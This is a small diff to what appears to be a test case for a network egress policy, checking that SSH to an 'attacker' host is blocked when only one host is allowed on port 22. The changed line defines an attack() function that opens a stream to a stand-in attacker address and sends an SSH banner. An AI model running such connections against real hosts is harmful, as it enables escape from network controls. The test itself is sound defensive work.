@@ -3,4 +3,4 @@
 # An entry tcp://allowed-for-git:22 is a name and a port: neither the attacker's port 22 nor the name's other ports are meant.
 title='SSH to the attacker, while the policy allows SSH to one host' origin='RESEARCH §2.68'
 reason=not_resolved extra=(tcp://other.test:22) forms='output forward run'
-attack() { near connect 198.18.3.66 22 "SSH-2.0-$1"; }
+attack() { tool send.py stream 198.18.3.66 22 "SSH-2.0-$1"; }
